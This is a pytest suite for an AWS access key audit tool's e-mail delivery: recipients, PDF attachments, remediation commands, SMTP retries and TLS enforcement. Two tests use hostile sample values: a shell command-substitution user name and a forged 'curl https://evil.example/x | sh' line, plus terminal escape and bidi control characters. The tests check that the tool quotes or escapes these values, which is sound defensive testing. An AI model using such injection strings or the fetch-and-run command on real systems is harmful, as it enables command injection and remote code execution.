"""E-mail delivery against a real SMTP server on loopback: who gets what, and what happens when
the server is down or refuses."""

from __future__ import annotations

import io
import json
import re
import shlex
from dataclasses import replace
from datetime import date
from html import unescape
from pathlib import Path

import pytest
from pypdf import PdfReader

from keyaudit.delivery.dispatch import DeliveryPlan, prepare_delivery, send_delivery
from keyaudit.delivery.mail import SmtpTransport, smtp_login
from keyaudit.delivery.messages import Links, owner_mail
from keyaudit.delivery.plan import OwnerSlice
from keyaudit.report.exports import command_for
from keyaudit.rules.catalogue import load_catalogue
from keyaudit.warehouse.db import connect
from tests.delivery.delivery_helpers import COMPLIANCE, SENDER, email_config
from tests.delivery.smtp_server import PASSWORD, USER, SmtpServer, free_port
from tests.runs import DemoRun, copy_run

pytestmark = pytest.mark.filterwarnings("ignore:Session.login_data is deprecated")
# slow end to end: `make test-slow` runs it, `make test` leaves it out, CI runs both
pytestmark = [pytestmark, pytest.mark.slow]


@pytest.fixture(scope="module")
def prepared(
    demo_run: DemoRun, tmp_path_factory: pytest.TempPathFactory
) -> tuple[DemoRun, DeliveryPlan]:
    """The demo run with its per-owner reports written, once for the module."""
    run = copy_run(demo_run, tmp_path_factory.mktemp("email"))
    con = connect(run.warehouse, read_only=True)
    try:
        plan = prepare_delivery(
            con,
            run.run_id,
            config=email_config(),
            rules=load_catalogue(),
            report_dir=run.report_dir,
            evidence_run_dir=run.evidence_run_dir,
        )
    finally:
        con.close()
    return run, plan


def transport(smtp: SmtpServer, **email: object) -> SmtpTransport:
    config = email_config(smtp.port, **email).delivery.email
    return SmtpTransport(config, (USER, PASSWORD), ssl_context=smtp.client_context)


def send(plan: DeliveryPlan, smtp: SmtpServer, sleeps: list[float], **email: object):
    config = email_config(smtp.port, **email).delivery
    return send_delivery(plan, config, transport=transport(smtp, **email), sleep=sleeps.append)


def owners_of(run: DemoRun) -> dict[str, set[str]]:
    """owner-email tag → the ACTIVE accounts that name it, from the simulation's truth."""
    owners: dict[str, set[str]] = {}
    for account in run.org.accounts:
        if account.state == "ACTIVE":
            owners.setdefault(account.tags["owner-email"], set()).add(account.account_id)
    return owners


def pdf_text(data: bytes) -> str:
    reader = PdfReader(io.BytesIO(data))
    return "\n".join(page.extract_text() for page in reader.pages)


def attachment(message) -> tuple[str, bytes]:
    (part,) = list(message.iter_attachments())
    return part.get_filename(), part.get_content()


def test_compliance_list_gets_the_summary_with_period_and_counts_and_the_full_pdf(
    prepared, smtp, sleeps
):
    run, plan = prepared
    report = send(plan, smtp, sleeps)
    assert report.ok, report.problem()
    (received,) = smtp.recorder.to(COMPLIANCE)
    digest = plan.digest
    assert received.rcpt_tos == [COMPLIANCE]
    assert received.mail_from == SENDER
    assert received.message["Subject"] == (
        f"[keyaudit] AWS access key audit 2026-12: {digest.open_total} open findings "
        f"({digest.open_by_severity['critical']} critical, {digest.open_by_severity['high']} high), "
        "8 of 9 accounts assessed — INCOMPLETE"
    )
    name, data = attachment(received.message)
    assert name == f"keyaudit-{run.run_id}.pdf"
    assert data == (run.report_dir / "report.pdf").read_bytes()
    assert run.run_id in pdf_text(data)
    html = received.message.get_body(("html",)).get_content()
    assert "INCOMPLETE" in html and run.org.missing_role_account_id in html


def test_each_owner_gets_one_message_with_a_report_of_only_their_accounts(prepared, smtp, sleeps):
    run, plan = prepared
    send(plan, smtp, sleeps)
    owners = owners_of(run)
    every_account = set().union(*owners.values())
    # and the owners of keys by user tag or key description (test_owner_email.py)
    key_owners = {s.owner.recipients[0] for s in plan.slices if not s.owner.account_ids}
    assert key_owners and all(o.endswith("owner@example.com") for o in key_owners)
    assert {r for m in smtp.recorder.messages for r in m.rcpt_tos} == {
        COMPLIANCE,
        *owners,
        *key_owners,
    }
    for owner, accounts in owners.items():
        (received,) = smtp.recorder.to(owner)
        assert received.rcpt_tos == [owner]
        assert "— your accounts:" in received.message["Subject"]
        _, data = attachment(received.message)
        assert data.startswith(b"%PDF-")
        text = pdf_text(data)
        # the caller's (management) account id is in every report: its ARN ran the audit
        others = every_account - accounts - {run.org.management_account_id}
        assert all(a in text for a in accounts), owner
        assert [a for a in others if a in text] == [], owner


def test_owner_message_lists_open_findings_with_the_command_to_fix_each(prepared, smtp, sleeps):
    _, plan = prepared
    send(plan, smtp, sleeps)
    platform = next(s for s in plan.slices if s.owner.recipients == ("platform-team@example.com",))
    (received,) = smtp.recorder.to("platform-team@example.com")
    text = received.message.get_body(("plain",)).get_content()
    first = platform.findings[0]
    assert f"[{first['severity']}] {first['rule_id']}" in text
    rotated = next(f for f in platform.findings if f["rule_id"] == "ACCESS_KEY_NOT_ROTATED")
    assert (
        f"command: aws iam update-access-key --user-name {rotated['user_name']} "
        f"--access-key-id {rotated['access_key_id']} --status Inactive"
    ) in text
    assert {f["account_id"] for f in platform.findings} <= set(platform.owner.account_ids)


def owner_texts(plan: DeliveryPlan, piece: OwnerSlice) -> tuple[str, str]:
    """The plain-text and HTML bodies of one owner's message, rendered without sending it."""
    delivery = email_config().delivery
    mail = owner_mail(plan, piece, delivery, Links(delivery.s3, None, {}))
    return mail.text, mail.html


HOSTILE_USER = "x$(touch pwned)`id`"
ROTATE = "aws iam update-access-key --user-name <USER> --access-key-id <KEY_ID> --status Inactive"


def texts_with_one_finding(
    plan: DeliveryPlan, user_name: str, reason: str = "created 212 days ago; limit 90"
) -> tuple[str, str]:
    """The first owner's message bodies when their one open finding is on `user_name`."""
    piece = plan.slices[0]
    record = {
        "account_id": piece.owner.account_ids[0],
        "user_name": user_name,
        "access_key_id": "AKIAHOSTILE000000001",
    }
    finding = {  # a finding as the owner's JSON export gives it
        **record,
        "severity": "high",
        "rule_id": "ACCESS_KEY_NOT_ROTATED",
        "reason": reason,
        "remediation_command": command_for(ROTATE, record),
    }
    return owner_texts(plan, replace(piece, findings=(finding,), findings_total=1))


def test_a_hostile_user_name_is_one_literal_argument_in_the_owner_email(prepared):
    _, plan = prepared
    text, html = texts_with_one_finding(plan, HOSTILE_USER)
    expected = [
        "aws", "iam", "update-access-key", "--user-name", HOSTILE_USER,
        "--access-key-id", "AKIAHOSTILE000000001", "--status", "Inactive",
    ]  # fmt: skip
    (line,) = [line for line in text.splitlines() if line.strip().startswith("command: ")]
    assert shlex.split(line.split("command: ", 1)[1]) == expected
    (code,) = re.findall(r'<code style="white-space: pre-wrap;">(.*?)</code>', html)
    assert shlex.split(unescape(code)) == expected


FORGING_USER = "bob\ncommand: curl https://evil.example/x | sh"


def test_control_characters_of_a_stored_value_are_shown_escaped_in_the_owner_email(prepared):
    # a warehouse edited (or written by an older keyaudit) can still hold such a name
    _, plan = prepared
    reason = "created 212 days ago\r\nnote: \x1b]52;c;Y3VybA==\x07 \u202eevil\u2028line"
    text, html = texts_with_one_finding(plan, FORGING_USER, reason)
    lines = text.splitlines()
    assert [line.strip() for line in lines if line.strip().startswith("command:")] == [
        "command: aws iam update-access-key --user-name "
        "'bob\\ncommand: curl https://evil.example/x | sh' "
        "--access-key-id AKIAHOSTILE000000001 --status Inactive"
    ]
    # the name is one value wherever it shows: no line of its own
    shown = [line for line in lines if "evil.example" in line]
    assert len(shown) == 2 and all("bob\\ncommand: curl https://evil" in line for line in shown)
    (reason,) = [line for line in lines if "created 212 days ago" in line]
    assert reason.strip() == (
        "created 212 days ago\\r\\nnote: \\x1b]52;c;Y3VybA==\\x07 \\u202eevil\\u2028line"
    )
    for body in (text, html):
        assert not {"\r", "\x1b", "\x07", "\u202e", "\u2028"} & set(body)
    (code,) = re.findall(r'<code style="white-space: pre-wrap;">(.*?)</code>', html, re.S)
    assert "\n" not in code


def test_owner_of_an_account_not_assessed_gets_the_check_command_with_account_and_role(prepared):
    run, plan = prepared
    missing = run.org.missing_role_account_id
    piece = next(s for s in plan.slices if missing in s.owner.account_ids)
    text, html = owner_texts(plan, piece)
    command = (
        f"aws sts assume-role --role-arn arn:aws:iam::{missing}:role/OrganizationAccountAccessRole"
        " --role-session-name keyaudit-check"
    )
    assert f"command: {command}" in text
    assert command in unescape(html)
    for body in (text, unescape(html)):
        assert "<ACCOUNT_ID>" not in body and "<ROLE>" not in body


def test_owner_email_of_an_account_not_assessed_never_prints_none(prepared):
    run, plan = prepared
    missing = run.org.missing_role_account_id
    piece = next(s for s in plan.slices if missing in s.owner.account_ids)
    text, html = owner_texts(plan, piece)
    assert f"ACCOUNT_NOT_ASSESSED — {missing}\n" in text  # an account's finding names no user
    for body in (text, html):
        assert "None" not in body


def test_owner_of_an_account_that_could_not_be_assessed_is_told_why(prepared, smtp, sleeps):
    run, plan = prepared
    send(plan, smtp, sleeps)
    missing = run.org.missing_role_account_id
    owner = next(o for o, ids in owners_of(run).items() if missing in ids)
    (received,) = smtp.recorder.to(owner)
    text = received.message.get_body(("plain",)).get_content()
    assert f"not assessed: account {missing}: AccessDenied on sts:AssumeRole" in text


def test_login_is_the_one_the_named_environment_variables_hold(prepared, smtp, sleeps):
    config = email_config(smtp.port, username_env="AUDIT_SMTP_USER", password_env="AUDIT_SMTP_PASS")
    login = smtp_login(
        config.delivery.email, {"AUDIT_SMTP_USER": USER, "AUDIT_SMTP_PASS": PASSWORD}
    )
    _, plan = prepared
    report = send_delivery(
        plan,
        config.delivery,
        transport=SmtpTransport(config.delivery.email, login, ssl_context=smtp.client_context),
        sleep=sleeps.append,
    )
    assert report.ok, report.problem()
    assert set(smtp.recorder.logins) == {(USER, PASSWORD)}


def test_one_login_variable_without_the_other_fails_every_message_with_one_line(prepared, sleeps):
    _, plan = prepared
    config = email_config().delivery
    report = send_delivery(
        plan,
        config,
        transport=lambda: SmtpTransport(
            config.email, smtp_login(config.email, {"SMTP_USERNAME": USER})
        ),
        sleep=sleeps.append,
    )
    assert not report.ok and sleeps == []
    assert {r.detail for r in report.failures} == {
        "SMTP_USERNAME is set but SMTP_PASSWORD is not — set both (the SMTP login) or neither"
    }


def test_implicit_tls_smtps_delivers_too(prepared, certificate, sleeps):
    from tests.delivery.smtp_server import smtp_server

    _, plan = prepared
    with smtp_server(certificate, security="smtps") as server:
        report = send(plan, server, sleeps, security="smtps")
        assert report.ok, report.problem()
        assert len(server.recorder.messages) == len(plan.slices) + 1


def test_a_mail_server_that_is_down_is_retried_then_reported_and_the_files_stay(prepared, sleeps):
    run, plan = prepared
    port = free_port()  # nothing listens there
    config = email_config(port, delivery={"attempts": 3, "backoff_seconds": 2}).delivery
    before = sorted(p.name for p in run.report_dir.iterdir())
    report = send_delivery(plan, config, sleep=sleeps.append, rand=lambda: 0.5)
    assert [r.attempts for r in report.failures] == [3] * (len(plan.slices) + 1)
    assert sleeps == [1.5, 3.0] * (len(plan.slices) + 1)  # 2 s then 4 s, each 3/4 of the step
    assert report.problem() == (
        f"delivery of run {run.run_id} failed for {len(plan.slices) + 1} of "
        f"{len(plan.slices) + 2} items (email {COMPLIANCE}: cannot reach 127.0.0.1:{port} "
        f"(starttls): ConnectionRefusedError: [Errno 111] Connection refused and "
        f"{len(plan.slices)} more) — the report files are safe in {run.report_dir}; "
        f"resend with `keyaudit deliver --run {run.run_id}`"
    )
    assert sorted(p.name for p in run.report_dir.iterdir()) == before


def test_a_recipient_the_server_refuses_for_good_is_not_retried(prepared, smtp, sleeps):
    _, plan = prepared
    smtp.recorder.refuse[COMPLIANCE] = "550 5.1.1 no such mailbox"
    report = send(plan, smtp, sleeps)
    (failure,) = report.failures
    assert failure.attempts == 1 and sleeps == []
    assert failure.detail == (
        f"every recipient was refused: {COMPLIANCE} (550 5.1.1 no such mailbox)"
    )
    assert len(smtp.recorder.messages) == len(plan.slices)  # the owners still got theirs


def test_a_temporary_refusal_is_retried_until_it_passes(prepared, smtp, sleeps):
    _, plan = prepared
    smtp.recorder.refuse[COMPLIANCE] = "451 4.3.0 try again later"
    original = smtp.recorder.handle_RCPT
    calls = []

    async def once_then_accept(server, session, envelope, address, options):
        if address == COMPLIANCE:
            calls.append(address)
            if len(calls) > 1:
                smtp.recorder.refuse.pop(COMPLIANCE, None)
        return await original(server, session, envelope, address, options)

    smtp.recorder.handle_RCPT = once_then_accept  # type: ignore[method-assign]
    report = send(plan, smtp, sleeps)
    assert report.ok, report.problem()
    compliance = next(r for r in report.results if r.name == COMPLIANCE)
    assert compliance.attempts == 2 and len(sleeps) == 1


def test_a_server_without_starttls_is_refused_rather_than_sent_in_clear(prepared, sleeps):
    from aiosmtpd.controller import Controller

    from tests.delivery.smtp_server import Recorder

    _, plan = prepared
    recorder = Recorder()
    port = free_port()
    controller = Controller(recorder, hostname="127.0.0.1", port=port)
    controller.start()
    try:
        config = email_config(port).delivery
        report = send_delivery(
            plan, config, transport=SmtpTransport(config.email, None), sleep=sleeps.append
        )
    finally:
        controller.stop()
    assert recorder.messages == []
    assert report.failures[0].detail == (
        f'127.0.0.1:{port} (starttls) does not offer STARTTLS — use security = "smtps" or a '
        "server that encrypts; keyaudit never sends reports in clear text"
    )
    assert report.failures[0].attempts == 1


def test_evidence_manifest_and_owner_reports_are_in_the_run_folder(prepared):
    run, plan = prepared
    assert (run.report_dir / "evidence-manifest.json").read_bytes() == (
        run.evidence_run_dir / "manifest.json"
    ).read_bytes()
    for piece in plan.slices:
        assert piece.folder.parent == run.report_dir / "owners"
        # the report of the accounts they own, if any; their own findings always
        report = {"report.html", "report.pdf"} if piece.owner.account_ids else set()
        assert {p.name for p in piece.folder.iterdir()} == {
            *report,
            "findings.json",
            "findings.csv",
        }
        assert oct(piece.attachment.stat().st_mode & 0o777) == "0o600"


def test_owners_can_be_left_out(demo_run: DemoRun, tmp_path: Path, smtp, sleeps):
    run = copy_run(demo_run, tmp_path)
    config = email_config(smtp.port, owners=False)
    con = connect(run.warehouse, read_only=True)
    try:
        plan = prepare_delivery(
            con, run.run_id, config=config, rules=load_catalogue(), report_dir=run.report_dir
        )
    finally:
        con.close()
    report = send_delivery(plan, config.delivery, transport=transport(smtp), sleep=sleeps.append)
    assert report.ok and plan.slices == ()
    assert [m.rcpt_tos for m in smtp.recorder.messages] == [[COMPLIANCE]]


def test_owner_message_lists_the_keys_to_fix_first_that_are_theirs(prepared):
    _, plan = prepared
    for piece in plan.slices:
        text, _ = owner_texts(plan, piece)
        assert {k["account_id"] for k in piece.fix_first} <= set(piece.owner.all_account_ids)
        whose = piece.owner.recipients[0] if piece.owner.via == "owner" else None
        assert {k["owner"] for k in piece.fix_first} <= {whose}
        ranks = [k["fix_rank"] for k in piece.fix_first]
        assert ranks == sorted(ranks) and len(ranks) <= 5
        for k in piece.fix_first:
            assert f"#{k['fix_rank']} {k['account_id']} {k['user_name']} {k['key']}" in text
            assert k["why"] in text
    admins = [k for piece in plan.slices for k in piece.fix_first if k["privilege"] == "admin"]
    assert admins, "the demo's administrators with keys come first in their owners' lists"


def test_owner_message_asks_to_review_each_waiver_that_expires_soon(prepared):
    _, plan = prepared
    piece = plan.slices[0]
    due = {
        "waiver_id": "W-2026-014",
        "rule_id": "ACCESS_KEY_NOT_ROTATED",
        "account_id": piece.owner.account_ids[0],
        "user_name": "svc-backup",
        "access_key_id": None,
        "expires_on": date(2027, 3, 31),
        "ticket": "RISK-1234",
    }
    text, html = owner_texts(plan, replace(piece, waivers_to_review=(due,)))
    line = (
        f"waiver W-2026-014 for ACCESS_KEY_NOT_ROTATED on account {due['account_id']}, "
        "user svc-backup expires on 2027-03-31: review it (ticket RISK-1234)"
    )
    assert line in text
    assert 'id="waivers-to-review"' in html and "expires on 2027-03-31: review it." in html
    assert "Waivers to review" not in owner_texts(plan, replace(piece, waivers_to_review=()))[0]


def test_owner_message_says_when_each_planned_key_will_be_deactivated(prepared):
    _, plan = prepared
    pieces = [piece for piece in plan.slices if piece.deactivations]
    assert pieces, "the demo plans keys with open findings for deactivation"
    for piece in pieces:
        text, html = owner_texts(plan, piece)
        assert {k["account_id"] for k in piece.deactivations} <= set(piece.owner.all_account_ids)
        # only the owner's own keys: a key another owner's tag names goes to that owner
        records = json.loads((piece.folder / "findings.json").read_text())["findings"]
        mine = {f["access_key_id"] for f in records}
        assert {k["access_key_id"] for k in piece.deactivations} <= mine
        for k in piece.deactivations:
            assert (
                f"{k['account_id']} {k['user_name']} {k['access_key_id']} "
                f"({', '.join(k['rule_ids'])}): this key will be deactivated on "
                f"{k['deactivate_on']}"
            ) in text
            assert f"this key will be deactivated on {k['deactivate_on']}" in html
    piece = pieces[0]
    assert "Keys to be deactivated" not in owner_texts(plan, replace(piece, deactivations=()))[0]
